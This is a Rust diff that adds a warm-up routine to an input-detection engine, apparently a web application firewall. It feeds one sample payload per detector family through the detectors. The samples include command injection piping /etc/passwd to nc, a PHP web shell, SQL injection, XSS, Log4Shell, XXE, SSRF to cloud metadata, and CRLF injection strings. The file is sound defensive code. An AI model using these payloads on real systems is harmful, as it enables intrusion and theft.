@@ -150,6 +150,39 @@ impl ValueDetectors {
         out.extend(unsafe_upload::inspect_field(field, text));
     }
 
+    /// Builds every lazily compiled table (automata, word lists, models) now, by inspecting one
+    /// probe per detector family, so the application's first requests do not pay for them
+    /// (about 20 ms in all, measured on the first values through a fresh engine).
+    pub fn warm_up(&self, mut views: impl FnMut(&str) -> Vec<String>) {
+        const PROBES: [&str; 17] = [
+            "q=%3Cx%3E&r=&lt;a&gt;&s=\u{ff1c}&t=PHNjcmlwdD4=",
+            "at 2:00 \"ls\"; cat /etc/passwd | nc x 1",
+            "x=1&allow_url_include=On",
+            "java.io.File rO0AB cnVudGltZQ== T(java.lang.Runtime)",
+            "<?php system($_GET['c']); ?>",
+            "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
+            "1' union select password from users-- ",
+            "<script>alert(1)</script><img src=x onerror=alert(1)>",
+            "javascript:alert(1) style=x:expression(1)",
+            "../../etc/passwd ..\\windows\\win.ini",
+            "http://169.254.169.254/latest gopher://127.0.0.1/",
+            "${jndi:ldap://x/a} ${lower:j}",
+            "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>",
+            "*)(uid=*))(|(uid=*",
+            "{\"$ne\": 1, \"$where\": \"sleep(1)\"}",
+            "a%0d%0aSet-Cookie: x=1",
+            "\r\nMAIL FROM:<a@b.c> HELO x.y",
+        ];
+        let mut found = Vec::new();
+        for p in PROBES {
+            self.inspect(p, &mut found);
+            for v in views(p) {
+                self.inspect(&v, &mut found);
+            }
+            found.clear();
+        }
+    }
+
     /// Runs every enabled value detector on one view; pushes findings.
     pub fn inspect(&self, text: &str, out: &mut Vec<Finding>) {
         match number(text) {
